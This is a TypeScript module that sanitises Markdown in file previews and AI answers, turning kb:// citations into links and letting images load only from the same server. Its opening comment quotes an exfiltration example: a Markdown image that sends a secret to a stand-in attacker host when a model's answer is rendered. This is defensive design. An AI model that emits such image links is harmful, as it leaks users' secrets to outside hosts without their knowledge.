// Markdown → HTML for previews and answers: rendered by `marked` with raw HTML shown as text
// (a file's or a model's `<img onerror>` or `<script>` appears as written, never as an element),
// then sanitised by `sanitize-html` as a second line of defence. `kb://` URIs become links that
// open the file's preview. In an answer, a citation (`kb://users/demo/a.md @120`) is a link only
// when the turn read that file (`cite` says so): it opens the preview in place at the offset.
//
// Images load only from this server: a workspace file (a `kb://` URI, or a path relative to the
// previewed file) through the raw-content URL, a same-origin path, or a `data:image/…` URI. A
// remote image would be fetched with no click — `![x](https://attacker.example/?d=SECRET)` in a
// model answer is an exfiltration channel — so it becomes a link the user may choose to open.
// The CSP (`img-src 'self' data:`) refuses remote images too.
import { Marked, type TokenizerAndRendererExtension } from 'marked'
import sanitizeHtml from 'sanitize-html'

const ALLOWED_TAGS = [
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'hr', 'blockquote', 'pre', 'code', 'em', 'strong', 'del', 'a',
  'ul', 'ol', 'li', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'span', 'sup', 'sub', 'kbd', 'img', 'input',
]

const KB_URI = /^kb:\/\/[^\s<>"'`)\]]+/
/** What may follow a URI in a name: a space or an apostrophe, then more of the name (`meeting notes.md`, `Bob's.md`). */
const NAME_CONTINUES = /^[ '][^\s<>"`)\]]*/
/** At most this many continuations are tried (a name of up to ~12 words). */
const MAX_CONTINUATIONS = 12
/** A citation's offset after its URI: `@120` (the system prompt's form), `(offset 120)` or `（偏移 120）` (the local model's). */
const CITED_OFFSET = /^\s?(?:@\s?(\d{1,9})|\(offset (\d{1,9})\)|（偏移 (\d{1,9})）)/
const trimPunctuation = (uri: string) => uri.replace(/[.,;:!?]+$/, '') // sentence punctuation is not part of the URI

function escapeHtml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;')
}

/** Where a kb:// URI opens: its preview in the workspace page. */
export function previewHref(uri: string): string {
  return `/workspace?uri=${encodeURIComponent(uri)}`
}

/** Where a citation opens: the file's preview at the cited offset. */
export function citationHref(uri: string, offset: number | undefined): string {
  return `${previewHref(uri)}${offset === undefined ? '' : `&offset=${offset}`}`
}

/** In an answer: the canonical URI of a file the turn read, or undefined (then the citation is not a link). */
export type CitationCheck = (uri: string) => string | undefined

function kbUriExtension(cite: CitationCheck | undefined): TokenizerAndRendererExtension {
  return {
    name: 'kbUri',
    level: 'inline',
    start: (src) => src.indexOf('kb://'),
    tokenizer(src) {
      const match = KB_URI.exec(src)
      if (!match) return undefined
      let taken = match[0]
      let uri = trimPunctuation(taken)
      if (cite) {
        // A file name with spaces or apostrophes: in an answer, the longest continuation that is a
        // file the turn read is the URI (a model writes the URIs its tools gave, names and all).
        let candidate = taken
        for (let step = 0; step < MAX_CONTINUATIONS; step++) {
          const more = NAME_CONTINUES.exec(src.slice(candidate.length))
          if (!more || more[0].length === 1) break
          candidate += more[0]
          if (cite(trimPunctuation(candidate)) !== undefined) {
            taken = candidate
            uri = trimPunctuation(candidate)
          }
        }
      }
      const offset = uri === taken ? CITED_OFFSET.exec(src.slice(uri.length)) : null
      const raw = offset ? uri + offset[0] : uri
      return { type: 'kbUri', raw, uri, offset: offset ? Number(offset[1] ?? offset[2] ?? offset[3]) : undefined }
    },
    renderer: (token) => {
      const uri = String(token.uri)
      const text = escapeHtml(String(token.raw))
      if (!cite || uri.endsWith('/')) return `<a class="kb-link" href="${escapeHtml(previewHref(uri))}">${text}</a>`
      const canonical = cite(uri)
      if (canonical === undefined) return `<span class="kb-ref">${text}</span>`
      const offset = token.offset as number | undefined
      const data = ` data-uri="${escapeHtml(canonical)}"${offset === undefined ? '' : ` data-offset="${offset}"`}`
      return `<a class="kb-link kb-cite" href="${escapeHtml(citationHref(canonical, offset))}"${data}>${text}</a>`
    },
  }
}

/** The raw bytes of a workspace file, as this server serves them (the caller's own files only). */
export function rawContentHref(uri: string): string {
  return `/api/v1/workspace/raw?uri=${encodeURIComponent(uri)}`
}

const DATA_IMAGE = /^data:image\/(png|jpeg|gif|webp|avif|svg\+xml)[;,]/i
const HAS_SCHEME = /^[a-z][a-z0-9+.-]*:/i

/**
 * Where an image may load from, or undefined when it would leave this server. Browsers drop tabs
 * and newlines inside URLs and read `\` as `/`, so anything holding those (or spaces, controls)
 * is refused rather than interpreted.
 */
export function localImageSource(href: string, { baseUri }: { baseUri?: string | undefined } = {}): string | undefined {
  if (/[\u0000-\u0020\\\u007f]/.test(href) || href === '') return undefined
  if (/^kb:\/\//i.test(href)) return rawContentHref(href)
  if (DATA_IMAGE.test(href)) return href
  if (HAS_SCHEME.test(href) || href.startsWith('//')) return undefined
  if (href.startsWith('/')) return href
  if (!baseUri) return undefined
  try {
    const resolved = new URL(href, baseUri)
    return resolved.protocol === 'kb:' ? rawContentHref(resolved.href) : undefined
  } catch {
    return undefined
  }
}

function hostOf(href: string): string | undefined {
  try {
    return new URL(href).host || undefined
  } catch {
    return undefined
  }
}

// Set only for the duration of one synchronous `parse` (see renderMarkdown).
let imageBaseUri: string | undefined

const markdownOf = (cite: CitationCheck | undefined) => new Marked({
  gfm: true,
  async: false,
  renderer: {
    html: ({ text }) => escapeHtml(text),
    // `[text](kb://…)`: a preview link (in an answer, a citation only of a file the turn read).
    link(token) {
      if (!/^kb:\/\//i.test(token.href)) return false // marked's own rendering, then the sanitiser
      const text = this.parser.parseInline(token.tokens)
      const title = token.title ? ` title="${escapeHtml(token.title)}"` : ''
      if (!cite) return `<a class="kb-link" href="${escapeHtml(previewHref(token.href))}"${title}>${text}</a>`
      const canonical = cite(token.href)
      if (canonical === undefined) return `<span class="kb-ref">${text}</span>`
      return `<a class="kb-link kb-cite" href="${escapeHtml(citationHref(canonical, undefined))}" data-uri="${escapeHtml(canonical)}"${title}>${text}</a>`
    },
    image: ({ href, title, text }) => {
      const source = localImageSource(href, { baseUri: imageBaseUri })
      const titleAttr = title ? ` title="${escapeHtml(title)}"` : ''
      if (source) return `<img src="${escapeHtml(source)}" alt="${escapeHtml(text)}"${titleAttr}>`
      const host = hostOf(href)
      const label = `External image, not loaded: ${text || href}${host ? ` (${host})` : ''}`
      return `<a class="external-image" href="${escapeHtml(href)}" title="${escapeHtml(title ?? href)}">${escapeHtml(label)}</a>`
    },
  },
  extensions: [kbUriExtension(cite)],
})

const previewMarkdown = markdownOf(undefined)

/** `baseUri`: the kb:// URI of the file being previewed, so its relative images load from its directory. */
export function renderMarkdown(source: string, { baseUri }: { baseUri?: string | undefined } = {}): string {
  imageBaseUri = baseUri
  let html: string
  try {
    html = previewMarkdown.parse(source, { async: false })
  } finally {
    imageBaseUri = undefined
  }
  return sanitized(html)
}

/** An answer's renderer: citations of files the turn read are links to the passage, others plain text. */
export function answerRenderer(cite: CitationCheck): (source: string) => string {
  const markdown = markdownOf(cite)
  return (source) => sanitized(markdown.parse(source, { async: false }))
}

function sanitized(html: string): string {
  return sanitizeHtml(html, {
    allowedTags: ALLOWED_TAGS,
    allowedAttributes: {
      a: ['href', 'title', 'class', 'rel', 'target', 'data-uri', 'data-offset'],
      span: ['class'],
      img: ['src', 'alt', 'title'],
      code: ['class'],
      th: ['align'],
      td: ['align'],
      input: ['type', 'checked', 'disabled'],
    },
    allowedSchemes: ['http', 'https', 'mailto'],
    allowedSchemesByTag: { img: ['data'] }, // plus same-origin paths: never http(s) to elsewhere
    allowProtocolRelative: false,
    transformTags: {
      a: (tagName, { class: className, ...attribs }) =>
        className === 'kb-link kb-cite'
          ? { tagName, attribs: { ...attribs, class: className } } // opens in place, same tab
          : className === 'kb-link'
            ? { tagName, attribs: { ...attribs, class: className, target: '_blank' } }
            : { tagName, attribs: { ...attribs, ...(className === 'external-image' ? { class: className } : {}), rel: 'noopener noreferrer', target: '_blank' } },
      input: (tagName, attribs) => ({ tagName, attribs: attribs.type === 'checkbox' ? { ...attribs, disabled: '' } : {} }),
    },
    allowedClasses: { code: [/^language-[\w-]+$/], a: ['kb-link', 'kb-cite', 'external-image'], span: ['kb-ref'] },
  })
}
